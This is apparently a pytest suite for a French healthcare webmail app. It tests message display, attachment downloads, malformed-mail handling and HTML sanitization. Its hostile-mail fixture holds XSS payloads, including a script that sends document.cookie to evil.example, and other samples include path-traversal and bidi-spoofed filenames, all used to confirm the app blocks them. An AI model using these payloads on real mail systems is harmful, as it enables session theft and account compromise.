"""Reading a message: text, hostile HTML, attachments, read state."""

from __future__ import annotations

import re
from email.message import EmailMessage
from urllib.parse import parse_qs, urlsplit

import pytest
from bs4 import BeautifulSoup, Tag
from starlette.testclient import TestClient

from dev.stack import Stack
from tests.conftest import ROOT, MailUser, deliver, form_value, imap_for, simple_mail, soup
from webmail.mail import mime
from webmail.views import message as message_view

HOSTILE_HTML = """<html><head><script>alert('head')</script>
<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/"></head>
<body onload="steal()"><p style="color:red">Compte rendu <b>important</b></p>
<img src="https://tracker.example/pixel.gif?id=42" alt="pixel">
<a href="javascript:alert(1)">cliquer</a> <a href="https://www.example.org/doc">doc</a>
<div hx-get="/logout" hx-trigger="load">x</div><span data-hx-post="/mail/delete">y</span>
<form action="https://evil.example/"><input name="password"></form>
<iframe src="https://evil.example/"></iframe><svg><script>alert(2)</script></svg>
<script>document.location='https://evil.example/?c='+document.cookie</script></body></html>"""


def hostile_mail(to: str) -> EmailMessage:
    message = simple_mail("pirate@evil.example", to, "Résultats urgents")
    message.add_alternative(HOSTILE_HTML, subtype="html")
    return message


def test_text_message_is_shown_and_marked_read(
    logged_in: TestClient, stack: Stack, user: MailUser
) -> None:
    uid = deliver(
        stack,
        user,
        simple_mail(
            "dr.b@chu-demo.mssante.test",
            user.address,
            "Compte rendu",
            "Patient vu en consultation.\nÀ revoir.",
        ),
    )
    page = logged_in.get(f"/mail/message?folder=INBOX&uid={uid}")
    assert page.status_code == 200
    assert (
        soup(page.text).select_one("pre.text-body").get_text()
        == "Patient vu en consultation.\nÀ revoir.\n"
    )
    assert page.headers["cache-control"] == "no-store"
    imap = imap_for(stack, user)
    imap.select("INBOX", readonly=True)
    _typ, data = imap.uid("FETCH", str(uid), "(FLAGS)")
    imap.logout()
    assert b"\\Seen" in data[0]


def test_xdm_prefix_is_hidden(logged_in: TestClient, stack: Stack, user: MailUser) -> None:
    uid = deliver(
        stack,
        user,
        simple_mail(
            "dmp@chu-demo.mssante.test",
            user.address,
            "XDM/1.0/DDM+CR hospitalisation DUPONT Jean 01/02/1950",
        ),
    )
    page = logged_in.get(f"/mail/message?folder=INBOX&uid={uid}")
    title = soup(page.text).select_one(".message-subject").get_text(" ", strip=True)
    assert title == "XDM CR hospitalisation DUPONT Jean 01/02/1950"


def test_hostile_html_never_reaches_the_browser(
    logged_in: TestClient, stack: Stack, user: MailUser
) -> None:
    uid = deliver(stack, user, hostile_mail(user.address))
    page = logged_in.get(f"/mail/message?folder=INBOX&uid={uid}")
    html = soup(page.text)
    frame = html.select_one("iframe.mail-frame")
    assert frame is not None and "allow-scripts" not in frame["sandbox"]
    assert html.select_one(".remote-banner") is not None  # the tracker was blocked, and we say so
    body = logged_in.get(frame["src"])
    assert body.status_code == 200
    text = body.text.lower()
    for forbidden in (
        "<script",
        "onload",
        "javascript:",
        "tracker.example",
        "evil.example",
        "hx-get",
        "data-hx",
        "<form",
        "<iframe",
        "<svg",
        "http-equiv",
        "<base",
    ):
        assert forbidden not in text, forbidden
    assert "compte rendu" in text and "https://www.example.org/doc" in text
    csp = body.headers["content-security-policy"]
    assert "script-src" not in csp and "default-src 'none'" in csp and "sandbox" in csp
    assert "img-src 'self' data:;" in csp


def test_remote_images_only_on_request(logged_in: TestClient, stack: Stack, user: MailUser) -> None:
    message = simple_mail("news@labo-demo.mssante.test", user.address, "Lettre")
    message.add_alternative('<p>Logo <img src="https://cdn.example/logo.png"></p>', subtype="html")
    uid = deliver(stack, user, message)
    blocked = logged_in.get(f"/mail/message/frame?folder=INBOX&uid={uid}")
    assert "cdn.example" not in blocked.text
    shown = logged_in.get(f"/mail/message/frame?folder=INBOX&uid={uid}&remote=1")
    assert 'src="https://cdn.example/logo.png"' in shown.text
    assert "https:" in shown.headers["content-security-policy"]


def test_attachment_download_is_exact_and_safe(
    logged_in: TestClient, stack: Stack, user: MailUser
) -> None:
    pdf = b"%PDF-1.4\n" + bytes(range(256)) * 40 + b"\n%%EOF\n"
    message = simple_mail("labo@labo-demo.mssante.test", user.address, "Bilan")
    message.add_attachment(
        pdf, maintype="application", subtype="pdf", filename="bilan sanguin été.pdf"
    )
    message.add_attachment(
        b"<script>alert(1)</script>", maintype="text", subtype="html", filename="../../piège.html"
    )
    uid = deliver(stack, user, message)
    page = logged_in.get(f"/mail/message?folder=INBOX&uid={uid}")
    links = soup(page.text).select("a.attachment")
    names = [link.select_one(".att-name").get_text() for link in links]
    assert names == ["bilan sanguin été.pdf", "piège.html"]
    download = logged_in.get(links[0]["href"])
    assert download.content == pdf
    assert download.headers["content-type"] == "application/pdf"
    assert download.headers["content-disposition"].startswith("attachment;")
    assert (
        "filename*=UTF-8''bilan%20sanguin%20%C3%A9t%C3%A9.pdf"
        in download.headers["content-disposition"]
    )
    assert download.headers["x-content-type-options"] == "nosniff"
    html_part = logged_in.get(links[1]["href"])
    assert html_part.headers["content-type"].startswith("application/octet-stream")
    assert html_part.headers["content-disposition"].startswith("attachment;")


def test_missing_message_is_404(logged_in: TestClient) -> None:
    response = logged_in.get("/mail/message?folder=INBOX&uid=999999")
    assert response.status_code == 404
    assert "n'existe pas" in soup(response.text).find("p").get_text()


def test_bad_uid_is_400(logged_in: TestClient) -> None:
    assert logged_in.get("/mail/message?folder=INBOX&uid=1:*").status_code == 400


def test_missing_attachment_part_is_404(
    logged_in: TestClient, stack: Stack, user: MailUser
) -> None:
    uid = deliver(stack, user, simple_mail("a@chu-demo.mssante.test", user.address, "Sans pièce"))
    assert logged_in.get(f"/mail/attachment?folder=INBOX&uid={uid}&part=7.3").status_code == 404
    assert logged_in.get(f"/mail/attachment?folder=INBOX&uid={uid}&part=../1").status_code == 404


def test_another_users_message_is_out_of_reach(
    logged_in: TestClient, stack: Stack, user: MailUser, other_user: MailUser
) -> None:
    uid = deliver(
        stack,
        other_user,
        simple_mail("a@chu-demo.mssante.test", other_user.address, "Confidentiel patient X"),
    )
    response = logged_in.get(f"/mail/message?folder=INBOX&uid={uid}")
    assert response.status_code == 404
    assert "Confidentiel" not in response.text


# -- malformed mail never costs the user a message -------------------------------------------

MESSAGES = ROOT / "tests" / "messages"
CORPUS = sorted(MESSAGES.glob("*.eml"))
# Bytes no charset can make sense of: a replacement character there is the honest display.
UNDECODABLE = {"base64_garbage"}
GARBAGE = re.compile("[\ufffd\ud800-\udfff]")


def text_of(node: Tag | None) -> str:
    """What a reader sees in an element, badges left out."""
    assert node is not None
    for badge in node.select(".badge"):
        badge.decompose()
    return " ".join(node.get_text(" ").split())


def list_rows(client: TestClient) -> dict[int, Tag]:
    page = client.get("/mail?folder=INBOX")
    assert page.status_code == 200
    rows = {}
    for row in soup(page.text).select("li.row"):
        uid = parse_qs(urlsplit(row.select_one("a.row-link")["href"]).query)["uid"][0]
        rows[int(uid)] = row
    return rows


def view_sender(html: BeautifulSoup) -> str:
    heading = html.select_one(".addresses dd")
    assert heading is not None
    names = heading.select(".addr")
    return names[0].get_text() if names else heading.get_text(strip=True)


def every_link(items: list[Tag]) -> list[str]:
    return [link["href"] for link in items]


def test_every_corpus_message_opens_and_lists_like_the_view_shows_it(
    logged_in: TestClient, stack: Stack, user: MailUser
) -> None:
    uids = {deliver(stack, user, path.read_bytes()): path.stem for path in CORPUS}
    rows = list_rows(logged_in)
    assert set(rows) == set(uids)
    for uid, name in uids.items():
        page = logged_in.get(f"/mail/message?folder=INBOX&uid={uid}")
        assert page.status_code == 200, name
        html = soup(page.text)
        row = rows[uid]
        assert text_of(row.select_one(".subject")) == text_of(html.select_one(".message-subject"))
        assert row.select_one(".sender").get_text(strip=True) == view_sender(html), name
        shown = [html.select_one("main").get_text(), row.get_text()]
        frame = html.select_one("iframe.mail-frame")
        if frame is not None:
            body = logged_in.get(frame["src"])
            assert body.status_code == 200, name
            shown.append(soup(body.text).get_text())
        for href in every_link(html.select("a.attachment")):
            assert logged_in.get(href).status_code == 200, (name, href)
        for action in ("reply", "replyall", "forward"):
            form = logged_in.get(f"/compose?mode={action}&folder=INBOX&uid={uid}")
            assert form.status_code == 200, (name, action)
            shown.append(soup(form.text).select_one("textarea").get_text())
        if name not in UNDECODABLE:
            assert not any(GARBAGE.search(text) for text in shown), name


def test_raw_8bit_headers_read_the_same_in_the_list_the_view_and_a_reply(
    logged_in: TestClient, stack: Stack, user: MailUser
) -> None:
    uid = deliver(stack, user, (MESSAGES / "raw_8bit_headers.eml").read_bytes())
    row = list_rows(logged_in)[uid]
    assert row.select_one(".sender").get_text(strip=True) == "Guérin, Élodie"
    subject = text_of(row.select_one(".subject"))
    # Dovecot stores the NUL as 0x80, which windows-1252 reads as €: shown alike everywhere.
    assert subject in (
        "Résultats d'analyses € Mme BÉLANGER Irène",
        "Résultats d'analyses € Mme BÉLANGER€ Irène",
    )
    html = soup(logged_in.get(f"/mail/message?folder=INBOX&uid={uid}").text)
    assert text_of(html.select_one(".message-subject")) == subject
    assert [a.get_text() for a in html.select(".addresses .addr")] == [
        "Guérin, Élodie",
        "Dr Renée Faïs",
        "Secrétariat cardiologie",
        "André Lévy",
    ]
    printed = logged_in.get(f"/mail/message/frame?folder=INBOX&uid={uid}&print=1")
    assert printed.status_code == 200
    assert text_of(soup(printed.text).select_one(".print-head h1")) == subject
    form = logged_in.get(f"/compose?mode=replyall&folder=INBOX&uid={uid}")
    assert form_value(form.text, "to") == "elodie.guerin@chu-demo.mssante.test"
    assert form_value(form.text, "subject") == f"RE: {subject}"
    assert "Guérin, Élodie a écrit" in soup(form.text).select_one("textarea").get_text()


def test_an_encoded_line_break_in_the_sender_breaks_no_page(
    logged_in: TestClient, stack: Stack, user: MailUser
) -> None:
    uid = deliver(stack, user, (MESSAGES / "encoded_line_break_addresses.eml").read_bytes())
    page = logged_in.get(f"/mail/message?folder=INBOX&uid={uid}")
    assert page.status_code == 200
    assert view_sender(soup(page.text)) == "Dr Jean MOREAU"
    for action in ("reply", "replyall", "forward"):
        form = logged_in.get(f"/compose?mode={action}&folder=INBOX&uid={uid}")
        assert form.status_code == 200
        if action != "forward":
            assert form_value(form.text, "to") == "secretariat@medecin.mssante.test"
    data = {
        name: form_value(form.text, name)
        for name in ("csrf_token", "mode", "origin_folder", "origin_uid", "subject")
    }
    data.update(to=user.address, body="Pour avis.", action="send")
    assert logged_in.post("/compose", data=data).status_code == 303


def test_bidi_controls_are_gone_from_shown_and_downloaded_file_names(
    logged_in: TestClient, stack: Stack, user: MailUser
) -> None:
    uid = deliver(stack, user, (MESSAGES / "bidi_filename.eml").read_bytes())
    links = soup(logged_in.get(f"/mail/message?folder=INBOX&uid={uid}").text).select("a.attachment")
    names = [link.select_one(".att-name").get_text() for link in links]
    assert names == ["rapportfdp.exe", "compte rendu.pdf", "ordonnancegpj.scr"]
    for link, name in zip(links, names, strict=True):
        disposition = logged_in.get(link["href"]).headers["content-disposition"]
        assert f'filename="{name}"' in disposition
        assert "%E2%80%AE" not in disposition and "%E2%81" not in disposition
        assert "%E2%80%8F" not in disposition and "%D8%9C" not in disposition


def test_a_named_inline_html_part_is_listed_and_the_text_is_the_body(
    logged_in: TestClient, stack: Stack, user: MailUser
) -> None:
    uid = deliver(stack, user, (MESSAGES / "inline_named_html.eml").read_bytes())
    html = soup(logged_in.get(f"/mail/message?folder=INBOX&uid={uid}").text)
    assert html.select_one("iframe.mail-frame") is None
    assert "urgences cette nuit" in html.select_one("pre.text-body").get_text()
    names = [name.get_text() for name in html.select(".att-name")]
    assert names == ["cr-urgences.html", "ordonnance.txt", "ecg.pdf"]
    download = logged_in.get(html.select("a.attachment")[0]["href"])
    assert download.headers["content-type"].startswith("application/octet-stream")


def test_attachments_inside_forwarded_messages_are_listed_and_downloadable(
    logged_in: TestClient, stack: Stack, user: MailUser
) -> None:
    raw = (MESSAGES / "forwarded_nested_attachments.eml").read_bytes()
    uid = deliver(stack, user, raw)
    html = soup(logged_in.get(f"/mail/message?folder=INBOX&uid={uid}").text)
    top = html.select(".attachments > ul > li")
    assert [item.select_one(".att-name").get_text() for item in top] == [
        "Dossier de M. PROTOTYPE.eml"
    ]
    inside = top[0].select(".att-inside .att-name")
    assert [name.get_text() for name in inside] == ["CRO.pdf", "imagerie.eml", "thorax.png"]
    png = top[0].select(".att-inside .att-inside a.attachment")
    assert [link.select_one(".att-name").get_text() for link in png] == ["thorax.png"]
    download = logged_in.get(png[0]["href"])
    assert download.status_code == 200 and download.content.startswith(b"\x89PNG")
    assert download.content == mime.part_content(raw, "2.3.2")


def test_a_message_that_is_only_an_encapsulated_message_shows_it(
    logged_in: TestClient, stack: Stack, user: MailUser
) -> None:
    for name in ("rfc822_body_7bit", "rfc822_body_base64"):
        uid = deliver(stack, user, (MESSAGES / f"{name}.eml").read_bytes())
        list_rows(logged_in)  # as a reader would: the list shows the new message first
        html = soup(logged_in.get(f"/mail/message?folder=INBOX&uid={uid}").text)
        inner = html.select_one("section.encapsulated")
        assert inner is not None, name
        assert view_sender(inner) == "Dr Sophie Garnier"
        assert inner.select_one(".encapsulated-subject").get_text() == (
            "Lettre de sortie de Mme LÉGER"
        )
        assert "mardi 10 mars 2026" in inner.get_text()
        assert "Mme LÉGER est sortie" in html.select_one("pre.text-body").get_text()
        (link,) = html.select("a.attachment")
        assert link.select_one(".att-name").get_text() == "lettre de sortie.pdf"
        assert logged_in.get(link["href"]).content.startswith(b"%PDF")
        form = logged_in.get(f"/compose?mode=reply&folder=INBOX&uid={uid}")
        assert "> Mme LÉGER est sortie" in soup(form.text).select_one("textarea").get_text()


def test_list_and_view_agree_on_odd_senders(
    logged_in: TestClient, stack: Stack, user: MailUser
) -> None:
    cases = {
        "sender_without_domain": "foo",
        "sender_empty_address": "MAILER DAEMON",
        "sender_missing": "(expéditeur inconnu)",
    }
    uids = {deliver(stack, user, (MESSAGES / f"{n}.eml").read_bytes()): n for n in cases}
    rows = list_rows(logged_in)
    for uid, name in uids.items():
        html = soup(logged_in.get(f"/mail/message?folder=INBOX&uid={uid}").text)
        assert rows[uid].select_one(".sender").get_text(strip=True) == cases[name]
        assert view_sender(html) == cases[name]
        assert "<>" not in html.select_one(".addresses dd").get_text()


def broken_parser(raw: bytes) -> mime.ParsedMessage:
    raise UnicodeEncodeError("utf-8", "\udce9", 0, 1, "surrogates not allowed")


def test_a_message_the_parser_cannot_read_is_shown_as_raw_text(
    logged_in: TestClient, stack: Stack, user: MailUser, monkeypatch: pytest.MonkeyPatch
) -> None:
    message = simple_mail("a@chu-demo.mssante.test", user.address, "Bilan", "Kaliémie 5,9.")
    message.add_alternative("<p>Kaliémie <b>5,9</b></p>", subtype="html")
    uid = deliver(stack, user, message)
    # The fault a real message brought (a surrogate reaching the renderer), injected here.
    monkeypatch.setattr(mime, "parse_message", broken_parser)
    monkeypatch.setattr(mime, "assemble", lambda *parts: broken_parser(b""))  # by parts too
    page = logged_in.get(f"/mail/message?folder=INBOX&uid={uid}")
    assert page.status_code == 200
    html = soup(page.text)
    assert html.select_one("p.note").get_text() == (
        "Ce message est mal formé : il est affiché en texte brut."
    )
    assert "Kaliémie 5,9." in html.select_one("pre.text-body").get_text()
    assert text_of(html.select_one(".message-subject")) == "Bilan"
    frame = logged_in.get(f"/mail/message/frame?folder=INBOX&uid={uid}")
    assert frame.status_code == 200
    for action in ("reply", "forward"):
        form = logged_in.get(f"/compose?mode={action}&folder=INBOX&uid={uid}")
        assert form.status_code == 200
        assert "Kaliémie 5,9." in soup(form.text).select_one("textarea").get_text()


def test_a_rendering_error_degrades_the_view_and_the_frame(
    logged_in: TestClient, stack: Stack, user: MailUser, monkeypatch: pytest.MonkeyPatch
) -> None:
    message = simple_mail("a@chu-demo.mssante.test", user.address, "Lettre", "Texte brut.")
    message.add_alternative("<p>Texte <b>riche</b></p>", subtype="html")
    uid = deliver(stack, user, message)

    def failing(*args: object, **kwargs: object) -> object:
        raise RecursionError("maximum recursion depth exceeded")

    monkeypatch.setattr(message_view, "sanitize_html", failing)
    page = logged_in.get(f"/mail/message?folder=INBOX&uid={uid}")
    assert page.status_code == 200
    html = soup(page.text)
    assert html.select_one("p.note") is not None
    assert "Texte brut." in html.select_one("pre.text-body").get_text()
    frame = logged_in.get(f"/mail/message/frame?folder=INBOX&uid={uid}")
    assert frame.status_code == 200
    assert "<p>Texte <b>riche</b></p>" in soup(frame.text).select_one("pre").get_text()
    assert frame.headers["content-security-policy"].startswith("default-src 'none'")
